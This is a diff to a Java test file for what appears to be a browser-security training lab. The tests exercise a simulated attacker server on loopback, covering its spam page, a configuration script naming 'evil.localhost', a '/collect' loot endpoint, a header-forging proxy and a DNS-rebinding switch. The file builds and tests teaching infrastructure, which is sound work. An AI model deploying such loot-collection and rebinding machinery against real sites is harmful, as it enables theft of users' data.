@@ -16,14 +16,15 @@ import org.junit.jupiter.api.Test;
 /** The spam site over real HTTP on loopback: its pages, its configuration script and its loot backend. */
 class AttackerServerTest {
 
-    private static final String VICTIM = "http://social.localhost:7001";
+    /** Port 1 on loopback: nothing listens there, so forged requests find no victim. */
+    private static final String VICTIM_UNREACHABLE = "http://social.localhost:1";
     private final HttpClient http = HttpClient.newHttpClient();
     private AttackerServer attacker;
     private String base;
 
     @BeforeEach
     void start() {
-        attacker = new AttackerServer(ScenarioCatalogue.load(), () -> VICTIM).start("127.0.0.1", 0);
+        attacker = new AttackerServer(ScenarioCatalogue.load(), () -> VICTIM_UNREACHABLE).start("127.0.0.1", 0);
         base = "http://127.0.0.1:" + attacker.port();
     }
 
@@ -37,14 +38,16 @@ class AttackerServerTest {
         HttpResponse<String> page = get("/");
         assertThat(page.statusCode()).isEqualTo(200);
         assertThat(page.headers().firstValue("Content-Type")).hasValueSatisfying(t -> assertThat(t).startsWith("text/html"));
-        assertThat(page.body()).contains("YOU WON", "credentials: 'include'", "/api/me");
+        assertThat(page.body()).contains("YOU WON", "stealProfile", "/lab-config.js");
     }
 
     @Test
     void the_configuration_script_tells_pages_where_the_victim_lives() throws Exception {
         HttpResponse<String> script = get("/lab-config.js");
         assertThat(script.headers().firstValue("Content-Type")).hasValueSatisfying(t -> assertThat(t).startsWith("text/javascript"));
-        assertThat(script.body()).isEqualTo("window.LAB = Object.freeze({\"victimOrigin\":\"" + VICTIM + "\"});\n");
+        assertThat(script.body()).startsWith("window.LAB = Object.freeze({")
+                .contains("\"victimOrigin\":\"" + VICTIM_UNREACHABLE + "\"")
+                .contains("\"attackerOrigin\":\"http://evil.localhost:" + attacker.port() + "\"");
     }
 
     @Test
@@ -53,6 +56,54 @@ class AttackerServerTest {
         assertThat(get("/scenarios/cookie-theft/scenario.json").statusCode()).isEqualTo(404);
         assertThat(get("/scenarios/cookie-theft/..%2Findex.json").statusCode()).isEqualTo(404);
         assertThat(get("/scenarios/nope/attack.html").statusCode()).isEqualTo(404);
+    }
+
+    @Test
+    void the_kit_every_page_loads_is_served() throws Exception {
+        assertThat(get("/kit/lab-kit.js").body()).contains("exfiltrate", "finish");
+        assertThat(get("/kit/lab-kit.css").headers().firstValue("Content-Type")).hasValueSatisfying(t -> assertThat(t).startsWith("text/css"));
+        assertThat(get("/kit/scenario.json").statusCode()).isEqualTo(404);
+    }
+
+    @Test
+    void loot_may_come_as_text_plain_the_simple_request_any_origin_can_send() throws Exception {
+        HttpResponse<String> response = http.send(HttpRequest.newBuilder(URI.create(base + "/collect"))
+                .header("Content-Type", "text/plain;charset=UTF-8")
+                .POST(HttpRequest.BodyPublishers.ofString("{\"scenario\":\"null-origin\",\"data\":{\"username\":\"alice\"}}")).build(),
+                HttpResponse.BodyHandlers.ofString());
+        assertThat(response.statusCode()).isEqualTo(201);
+        assertThat(attacker.loot().since(0)).singleElement().satisfies(l -> assertThat(l.scenario()).isEqualTo("null-origin"));
+    }
+
+    @Test
+    void the_forge_endpoint_sends_forged_headers_only_to_the_victims_api() throws Exception {
+        assertThat(get("/forge?path=/login").statusCode()).isEqualTo(400);
+        assertThat(get("/forge?path=http://elsewhere/api/me").statusCode()).isEqualTo(400);
+        assertThat(get("/forge").statusCode()).isEqualTo(400);
+        // The victim of this test is not running: the attacker's backend says so instead of failing.
+        HttpResponse<String> unreachable = get("/forge?path=/api/me");
+        assertThat(unreachable.statusCode()).isEqualTo(502);
+        assertThat(unreachable.body()).contains("did not answer");
+    }
+
+    @Test
+    void the_rebinding_switch_points_the_attackers_name_at_the_victim() throws Exception {
+        attacker.rebinding().pointAtAttacker();
+        assertThat(attacker.rebinding().pointsAtVictim()).isFalse();
+        HttpResponse<String> switched = http.send(HttpRequest.newBuilder(URI.create(base + "/rebind/switch"))
+                .POST(HttpRequest.BodyPublishers.noBody()).build(), HttpResponse.BodyHandlers.ofString());
+        assertThat(switched.statusCode()).isEqualTo(200);
+        assertThat(attacker.rebinding().pointsAtVictim()).isTrue();
+    }
+
+    @Test
+    void the_rebinding_forwarder_serves_the_attackers_pages_until_the_switch() throws Exception {
+        attacker.rebinding().pointAtAttacker();
+        HttpResponse<String> page = http.send(HttpRequest.newBuilder(URI.create(
+                "http://127.0.0.1:" + attacker.rebinding().port() + "/scenarios/dns-rebinding/attack.html")).build(),
+                HttpResponse.BodyHandlers.ofString());
+        assertThat(page.statusCode()).isEqualTo(200);
+        assertThat(page.body()).contains("/rebind/switch");
     }
 
     @Test
@@ -74,7 +125,7 @@ class AttackerServerTest {
         assertThat(postJson("{\"scenario\":\"../x\",\"data\":{}}").statusCode()).isEqualTo(400);
         assertThat(postJson("{\"scenario\":\"x\",\"data\":{\"pad\":\"" + "a".repeat(70_000) + "\"}}").statusCode()).isEqualTo(413);
         HttpResponse<String> wrongType = http.send(HttpRequest.newBuilder(URI.create(base + "/collect"))
-                .header("Content-Type", "text/plain")
+                .header("Content-Type", "application/xml")
                 .POST(HttpRequest.BodyPublishers.ofString("{\"scenario\":\"x\",\"data\":{}}")).build(),
                 HttpResponse.BodyHandlers.ofString());
         assertThat(wrongType.statusCode()).isEqualTo(415);
